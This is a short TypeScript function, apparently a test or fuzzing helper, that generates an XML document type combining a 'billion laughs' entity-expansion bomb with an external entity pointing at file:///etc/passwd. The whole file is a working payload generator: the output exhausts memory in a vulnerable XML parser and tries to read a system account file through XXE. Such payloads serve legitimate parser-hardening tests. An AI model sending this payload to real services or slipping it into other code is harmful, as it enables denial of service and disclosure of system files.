/**
 * The document type of a "billion laughs" (https://en.wikipedia.org/wiki/Billion_laughs_attack): `&l9;` is a thousand
 * million words where it is expanded, `&x;` a file of the machine.
 */
export function bomb(root: string): string {
  const levels = Array.from({ length: 9 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`);
  return `<!DOCTYPE ${root} [<!ENTITY l0 "lol">${levels.join('')}<!ENTITY x SYSTEM "file:///etc/passwd">]>`;
}
